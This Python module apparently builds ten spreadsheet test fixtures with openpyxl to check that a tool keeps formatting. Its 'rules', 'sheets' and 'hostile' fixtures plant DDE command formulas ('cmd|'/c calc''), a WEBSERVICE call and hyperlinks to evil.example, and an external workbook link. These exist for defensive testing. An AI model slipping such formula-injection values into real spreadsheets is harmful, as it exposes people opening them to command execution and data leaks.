"""Ten sheets as people format them, each with something that a copy may lose. They ask for voice-overs."""

from __future__ import annotations

import datetime
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any, cast

from openpyxl import Workbook
from openpyxl.cell.rich_text import CellRichText, TextBlock
from openpyxl.cell.text import InlineFont
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.formatting.rule import CellIsRule, ColorScaleRule, FormulaRule
from openpyxl.styles import Alignment, Border, Color, Font, PatternFill, Side
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.filters import FilterColumn, Filters
from openpyxl.worksheet.table import Table, TableStyleInfo

#: openpyxl does not say what types these take.
_is, _formula, _scale = (cast("Any", rule) for rule in (CellIsRule, FormulaRule, ColorScaleRule))

HEADERS = ("text", "voice_id", "company", "budget", "day")
NAMES = ("Ana", "Bob", "Cleo", "Dee", "Eve", "Fay")


def _book(headers: Sequence[str] = HEADERS, header_row: int = 1, title: str = "Leads") -> tuple[Workbook, Any]:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = title
    for column, header in enumerate(headers, 1):
        sheet.cell(header_row, column, header)
    for number, name in enumerate(NAMES, 1):
        values = (
            f"Hello {name}",
            "voice_anna",
            f"Company {number}",
            1234.5 * number,
            datetime.datetime(2026, 3, number),
        )
        for column, value in enumerate(values[: len(headers)], 1):
            sheet.cell(header_row + number, column, value)
        if len(headers) > 4:
            sheet.cell(header_row + number, 4).number_format = '"€" #,##0.00'
            sheet.cell(header_row + number, 5).number_format = "d mmm yyyy"
    for letters, width in (("A", 24), ("C", 18), ("D", 14), ("E", 14)):
        sheet.column_dimensions[letters].width = width
    return book, sheet


def _head(sheet: Any, row: int, colour: str, font: str = "Georgia") -> None:
    for cell in sheet[row]:
        cell.font = Font(name=font, bold=True, color="FFFFFF")
        cell.fill = PatternFill("solid", start_color=colour)


def titles() -> Workbook:
    """A merged title and an owner above the headers, a house font, zebra stripes."""
    book, sheet = _book(header_row=4)
    sheet["A1"], sheet["A2"] = "Spring campaign 2026", "Owner: Marta"
    sheet.merge_cells("A1:E1")
    sheet["A1"].font = Font(name="Georgia", size=18, bold=True, color="FFFFFF")
    sheet["A1"].fill = PatternFill("solid", start_color="7030A0")
    sheet["A1"].alignment = Alignment(horizontal="center", vertical="center")
    sheet.row_dimensions[1].height = 34
    _head(sheet, 4, "00796B")
    for row in range(5, 11):
        for cell in sheet[row]:
            cell.font = Font(name="Georgia")
            cell.border = Border(bottom=Side(style="hair", color="999999"))
            if row % 2:
                cell.fill = PatternFill("solid", start_color="F3E5F5")
    return book


def table() -> Workbook:
    """An Excel table with stripes and a filter of its own."""
    book, sheet = _book()
    made = Table(displayName="Leads_1", ref="A1:E7")
    made.tableStyleInfo = TableStyleInfo(name="TableStyleMedium9", showRowStripes=True)
    sheet.add_table(made)
    return book


def filtered() -> Workbook:
    """A filter that shows two companies, the other rows hidden by it."""
    book, sheet = _book()
    sheet.auto_filter.ref = "A1:E7"
    sheet.auto_filter.filterColumn = [FilterColumn(colId=2, filters=Filters(filter=["Company 1", "Company 4"]))]
    for row in (3, 4, 6, 7):
        sheet.row_dimensions[row].hidden = True
    _head(sheet, 1, "305496", "Arial")
    return book


def hidden_columns() -> Workbook:
    """A hidden column, a grouped one, one group of widths over several, blank rows between."""
    book, sheet = _book()
    sheet.insert_rows(4)
    sheet["A4"].fill = PatternFill("solid", start_color="FFE699")
    sheet.column_dimensions["B"].hidden = True
    sheet.column_dimensions.group("C", "D", outline_level=1)
    sheet.column_dimensions["E"].width = 30
    sheet.column_dimensions["E"].max = 40
    return book


def rules() -> Workbook:
    """Conditional formats of all sorts, lists to choose from; some look outside of the workbook."""
    book, sheet = _book()
    lists = book.create_sheet("Companies")
    for number in range(1, 7):
        lists.cell(number, 1, f"Company {number}")
    red, yellow = Font(color="C00000", bold=True), PatternFill(bgColor="FFFF99")
    sheet.conditional_formatting.add("D2:D7", _is(operator="greaterThan", formula=["5000"], font=red))
    sheet.conditional_formatting.add("A2:E7", _formula(formula=['$C2="Company 2"'], fill=yellow))
    scale = _scale(start_type="min", start_color="FFFFFF", end_type="max", end_color="63BE7B")
    sheet.conditional_formatting.add("E2:E7", scale)
    sheet.conditional_formatting.add("B2:B7", _formula(formula=['WEBSERVICE("http://evil.example")=1'], fill=yellow))
    for place, formula in (
        ("C2:C100", "=Companies!$A$1:$A$6"),
        ("B2:B100", '"voice_anna,voice_ben"'),
        ("D2:D7", "='[evil.xlsx]Sheet1'!$A$1"),
        ("E2:E7", "cmd|'/c calc'!A1"),
    ):
        entries = DataValidation(type="list", formula1=formula)
        entries.add(place)
        sheet.add_data_validation(entries)
    return book


def sheets() -> Workbook:
    """Other sheets with formulas, one of them hidden; a name for cells, and one that is none."""
    book, _ = _book()
    sums = book.create_sheet("Sums", 0)
    sums["A1"], sums["B1"] = "Budget", "=SUM(Leads!D2:D7)"
    sums["A1"].font = Font(bold=True, color="C00000")
    secret = book.create_sheet("Secret")
    secret["A1"], secret.sheet_state = "not for everybody", "hidden"
    book.defined_names["Budgets"] = DefinedName("Budgets", attr_text="Leads!$D$2:$D$7")
    book.defined_names["Bad"] = DefinedName("Bad", attr_text="cmd|'/c calc'!A0")
    return book


def repeated() -> Workbook:
    """Stripes by hand and a tall row, for rows that come back several times."""
    book, sheet = _book()
    for row, colour in enumerate(("DDEBF7", "FFFFFF") * 3, 2):
        for cell in sheet[row]:
            cell.fill = PatternFill("solid", start_color=colour)
    sheet.row_dimensions[4].height = 45
    sheet.conditional_formatting.add(
        "A2:E7", _formula(formula=['$C2="Company 5"'], font=Font(color="C00000", bold=True))
    )
    sheet.merge_cells("C6:C7")
    return book


def texts() -> Workbook:
    """A text in several looks, one that wraps, one that is turned, zeros in front, a formula with its value."""
    book, sheet = _book((*HEADERS, "zip", "share"))
    sheet["A2"] = CellRichText("Hello ", TextBlock(InlineFont(b=True, color=Color("C00000")), "Ana"))
    sheet["A3"].alignment = Alignment(wrap_text=True, vertical="top")
    sheet["A1"].alignment = Alignment(text_rotation=45)
    for row in range(2, 8):
        sheet.cell(row, 6, 417 + row).number_format = "00000"
        sheet.cell(row, 7, row / 10).number_format = "0.0%"
    return book


def views() -> Workbook:
    """Two columns and the header kept in sight, from right to left, enlarged, locked, titles on every page."""
    book, sheet = _book()
    sheet.freeze_panes = "C2"
    sheet.sheet_view.rightToLeft = True
    sheet.sheet_view.zoomScale = 130
    sheet.sheet_view.showGridLines = False
    sheet.print_title_rows = "1:1"
    sheet.print_area = "A1:C7"
    sheet.protection.enable()
    sheet.oddFooter.center.text = "Page &P"
    return book


def hostile() -> Workbook:
    """Formulas, links, notes and charts that nobody should get by the results."""
    book, sheet = _book((*HEADERS, "note"))
    sheet["F2"], sheet["F3"] = "=1+1", "=cmd|'/c calc'!A0"
    sheet["F3"].data_type = "s"
    sheet["F4"], sheet["F4"].hyperlink = "look", "file://evil.example/share"
    sheet["F5"], sheet["F5"].hyperlink = "site", "https://evil.example"
    sheet["F6"], sheet["F6"].comment = "noted", Comment("psst", "Ben")
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=4, min_row=2, max_row=7))
    sheet.add_chart(chart, "H2")
    return book


LOOKS: dict[str, Callable[[], Workbook]] = {
    each.__name__: each
    for each in (titles, table, filtered, hidden_columns, rules, sheets, repeated, texts, views, hostile)
}


def write_look(name: str, path: Path) -> Path:
    LOOKS[name]().save(path)
    return path
